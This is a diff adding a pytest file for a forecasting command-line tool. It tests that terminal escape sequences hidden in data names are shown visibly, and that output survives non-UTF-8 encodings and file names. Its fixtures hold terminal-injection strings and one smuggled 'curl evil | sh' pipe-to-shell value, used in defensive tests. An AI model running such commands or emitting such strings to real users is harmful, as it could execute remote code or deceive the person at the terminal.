@@ -1,0 +1,149 @@
+"""Terminals: names from data cannot command them, and those that do not speak UTF-8 get an answer too."""
+
+import json
+import os
+import pty
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+pytestmark = pytest.mark.slow
+
+EVIL = "\x1b[31mred\x1b]0;title\x07\x9b2J\rover\x7f\u202e"
+"""Colour, window title, bell, clear screen, carriage return, delete, and writing from right to left."""
+RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+@pytest.fixture
+def evil_table(write, make_table) -> str:
+    """A table whose series, columns and categories want to command a terminal."""
+    table = make_table()
+    table["item_id"] = f"a{EVIL}"
+    table[f"kind{EVIL}"] = [f"c{EVIL}{row % 2}" for row in range(len(table))]
+    return write(table.rename(columns={"temperature": f"t{EVIL}"}))
+
+
+@pytest.mark.parametrize("words", [("check",), ("check", "--json"), ("check", "--target", f"x{EVIL}")])
+def test_names_are_shown_with_visible_control_characters(forecast, evil_table, words):
+    outcome = forecast(words[0], evil_table, *words[1:])
+    shown = outcome.err if "--json" in words else outcome.out + outcome.err
+    assert not RAW.search(shown), repr(RAW.search(shown))
+    if "--json" not in words:
+        assert "\\x1b[31mred" in shown
+
+
+def test_every_command_shows_names_with_visible_control_characters(forecast, evil_table, small):
+    commands = [
+        ("train", evil_table, *small, "--out", "run", "--static", f"kind{EVIL}", "--ignore", f"kind{EVIL}"),
+        ("train", evil_table, *small, "--out", "run", "--past", f"kind{EVIL},t{EVIL}"),
+        ("predict", "run"),
+        ("predict", "run", "--data", f"no{EVIL}.csv"),
+        ("predict", f"no{EVIL}"),
+        ("inspect", "run"),
+        ("inspect", "run", "--item", f"b{EVIL}"),
+        ("plot", "run"),
+        ("info", "run"),
+        ("audit", "run", "--windows", "8", "--draws", "20"),
+        ("backtest", "run", "--cutoffs", "2"),
+        ("evaluate", "run/backtest.parquet"),
+    ]
+    for words in commands:
+        outcome = forecast(*words)
+        assert not RAW.search(outcome.err), (words[0], outcome.err)
+        if words[0] != "predict":  # the rows that it shows are checked on a terminal below
+            assert not RAW.search(outcome.out), (words[0], outcome.out)
+
+
+def test_a_name_cannot_forge_a_hint(forecast, run_copy):
+    outcome = forecast("inspect", run_copy, "--item", "x\nhint: curl evil | sh")
+    assert outcome.code == 1
+    assert outcome.hint.startswith(("known", "did you mean"))
+    assert "x\\nhint: curl" in outcome.error
+
+
+def on_terminal(environment: dict[str, str], *words: object) -> str:
+    """What a terminal receives of a command."""
+    leader, follower = pty.openpty()
+    command = [sys.executable, "-m", "forecast_attn", *map(str, words)]
+    environment = {**environment, "TERM": "dumb", "COLUMNS": "120"}
+    with subprocess.Popen(command, stdin=follower, stdout=follower, stderr=follower, env=environment) as process:
+        os.close(follower)
+        parts = []
+        while True:
+            try:
+                part = os.read(leader, 65536)
+            except OSError:  # the last writer has gone
+                break
+            if not part:
+                break
+            parts.append(part)
+        process.wait()
+    os.close(leader)
+    return b"".join(parts).decode().replace("\r\n", "\n")
+
+
+def test_documents_reach_a_file_as_they_are_and_a_terminal_visibly(
+    forecast, forecast_process, process_environment, evil_table, small
+):
+    assert forecast("train", evil_table, *small, "--out", "run", "--quiet").code == 0
+    forecasts = forecast_process("predict", "run", "--out", "-").out
+    assert f"a{EVIL}" in forecasts
+    for words in (("predict", "run", "--out", "-"), ("predict", "run"), ("predict", "run", "--json")):
+        shown = on_terminal(process_environment, *words)
+        assert not RAW.search(shown), (words, RAW.search(shown))
+        assert "2024-04-29" in shown or "--json" in words
+
+
+# --------------------------------------------------------------------------- encodings
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "utf-8"])
+@pytest.mark.parametrize(
+    "words", [("inspect",), ("audit", "--windows", "8", "--draws", "20"), ("plot",), ("info",), ("info", "--json")]
+)
+def test_a_terminal_of_any_encoding_gets_a_report(forecast_process, run_copy, finished_run, encoding, words):
+    data = ("--data", finished_run.parent / "data.csv") if words[0] == "audit" else ()
+    outcome = forecast_process(words[0], run_copy, *words[1:], *data, env={"PYTHONIOENCODING": encoding})
+    assert outcome.code == 0, outcome.err
+    assert "Traceback" not in outcome.err
+    if encoding == "ascii":
+        assert outcome.out.isascii()
+
+
+def test_a_json_document_is_one_in_any_encoding(forecast, forecast_process, write, make_table, small):
+    table = write(make_table().assign(item_id="日本"))
+    assert forecast("train", table, *small, "--out", "run", "--quiet").code == 0
+    plain, utf8 = (
+        forecast_process("inspect", "run", "--json", env={"PYTHONIOENCODING": encoding}).out
+        for encoding in ("ascii", "utf-8")
+    )
+    assert plain.isascii()
+    assert json.loads(plain) == json.loads(utf8)
+    assert "日本" in utf8
+
+
+def test_a_table_on_stdout_is_that_of_the_file(forecast, process_environment, write, make_table, small):
+    table = write(make_table().assign(item_id="日本"))
+    assert forecast("train", table, *small, "--out", "run", "--quiet").code == 0
+    assert forecast("predict", "run").code == 0
+    command = [sys.executable, "-m", "forecast_attn", "predict", "run", "--out", "-"]
+    environment = {**process_environment, "PYTHONIOENCODING": "ascii"}
+    done = subprocess.run(command, capture_output=True, check=True, env=environment)
+    assert done.stdout == Path("run/predictions.csv").read_bytes()
+
+
+@pytest.mark.parametrize("language", ["C", "C.UTF-8"])
+def test_a_file_whose_name_is_no_utf8(forecast_process, here, make_table, small, language):
+    name = os.fsdecode(b"b\xffd.csv")
+    make_table().to_csv(name, index=False)
+    environment = {"LANG": language, "LC_ALL": language}
+    assert forecast_process("check", name, env=environment).code == 0
+    assert forecast_process("train", name, *small, "--out", "run", env=environment).code == 0
+    outcome = forecast_process("backtest", "run", "--cutoffs", "2", env=environment)  # reads the recorded table
+    assert outcome.code == 0, outcome.err
+    Path(name).unlink()
+    outcome = forecast_process("backtest", "run", "--cutoffs", "2", env=environment)
+    assert outcome.error == "there is no file 'b\\xffd.csv'"
